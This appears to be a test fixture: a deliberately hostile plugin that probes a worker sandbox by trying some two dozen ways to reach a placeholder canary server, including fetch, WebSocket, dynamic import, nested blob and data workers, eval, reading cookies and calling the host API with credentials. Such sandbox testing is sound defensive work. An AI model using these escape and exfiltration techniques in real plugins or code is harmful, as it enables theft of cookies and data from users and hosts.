// Hostile worker plugin: tries every way out of a worker and logs what happened.
// `canary` is filled in by the test with the address of a recording server.
const canary = '__CANARY__'
const wsCanary = canary.replace('http', 'ws')

const attempts = {
  fetch: () => fetch(`${canary}/fetch`, { mode: 'no-cors' }),
  'fetch keepalive': () =>
    fetch(`${canary}/keepalive`, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
  'fetch of the host API': async () => {
    const answer = await fetch('__HOST__/api/v1/plugins', { credentials: 'include' })
    return `status ${answer.status}`
  },
  XMLHttpRequest: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', `${canary}/xhr`)
      request.onload = resolve
      request.onerror = () => reject(new Error('blocked'))
      request.send()
    }),
  WebSocket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${wsCanary}/ws`)
      socket.onopen = resolve
      socket.onerror = () => reject(new Error('blocked'))
    }),
  EventSource: () =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${canary}/sse`)
      source.onopen = resolve
      source.onerror = () => {
        source.close()
        reject(new Error('blocked'))
      }
    }),
  WebTransport: async () => {
    const transport = new WebTransport(`${canary.replace('http', 'https')}/wt`)
    await transport.ready
  },
  'import()': () => import(`${canary}/import.js`),
  'import() of the host': () => import('__HOST__/api/v1/plugins'),
  importScripts: async () => importScripts(`${canary}/import-scripts.js`),
  'nested worker, remote': () => spawn(`${canary}/worker.js`),
  'nested worker, blob that fetches': () =>
    spawn(
      URL.createObjectURL(new Blob([`fetch('${canary}/blob-worker', { mode: 'no-cors' }).catch(() => {})`])),
    ),
  'nested worker, data': () => spawn(`data:text/javascript,fetch('${canary}/data-worker',{mode:'no-cors'})`),
  FontFace: async () => {
    const face = new FontFace('x', `url(${canary}/font.woff2)`)
    self.fonts?.add(face)
    await face.load()
  },
  'WebAssembly streaming': () =>
    WebAssembly.compileStreaming(fetch(`${canary}/module.wasm`, { mode: 'no-cors' })),
  caches: async () => (await caches.open('x')).add(`${canary}/cache`),
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('x')
      request.onsuccess = resolve
      request.onerror = () => reject(new Error('blocked'))
    }),
  RTCPeerConnection: async () => new RTCPeerConnection().createOffer(),
  eval: async () => globalThis.eval(`fetch('${canary}/eval')`),
  'new Function': async () => new Function(`fetch('${canary}/function')`)(),
  cookies: async () => {
    const all = await cookieStore.getAll()
    return JSON.stringify(all)
  },
  'broadcast to the host': async () => {
    const channel = new BroadcastChannel('mortise')
    channel.postMessage({ from: 'attacker' })
    return 'sent into nothing'
  },
}

function spawn(address) {
  return new Promise((resolve, reject) => {
    const worker = new Worker(address)
    worker.onmessage = resolve
    worker.onerror = () => reject(new Error('blocked'))
    setTimeout(() => reject(new Error('silent')), 500)
  })
}

async function run({ root, log }) {
  const outcomes = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const value = await Promise.race([
        attempt(),
        new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500)),
      ])
      outcomes[name] = typeof value === 'string' ? value : 'went through'
    } catch (error) {
      outcomes[name] = `refused: ${error?.name ?? error}`
    }
  }
  log.info('outcomes', outcomes)
  root.append(`attacks finished: ${Object.keys(outcomes).length}`)
}

export default {
  widgets: {
    // Not awaited by the host: a widget that takes long to draw is stopped.
    probe(context) {
      run(context)
    },
  },
}
